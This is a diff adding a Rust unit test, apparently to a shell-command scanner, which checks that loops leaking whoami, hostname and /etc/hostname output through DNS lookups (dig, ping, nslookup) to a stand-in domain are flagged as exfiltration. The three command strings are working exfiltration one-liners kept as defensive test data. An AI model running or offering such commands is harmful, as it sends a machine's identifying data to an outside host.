@@ -292,3 +292,19 @@ fn devdocsi_and_ppne() {
         Severity::Critical,
     );
 }
+
+/// Review of session 51's loop-value mend: a loop's variable set again in
+/// the body (`i=$(whoami)`) or read into (`read i`) holds data, and a name
+/// built from it is still DNS exfiltration.
+#[test]
+fn a_loop_variable_set_again_in_the_body_is_data() {
+    flagged_each(
+        &[
+            "for i in 1 2; do i=$(whoami); dig $i.x.example.net; done",
+            "for i in 1 2; do read i < /etc/hostname; ping -c1 $i.x.example.net; done",
+            "for i in a b; do export i=$(hostname); nslookup $i.x.example.net; done",
+        ],
+        Category::Exfiltration,
+        Severity::High,
+    );
+}
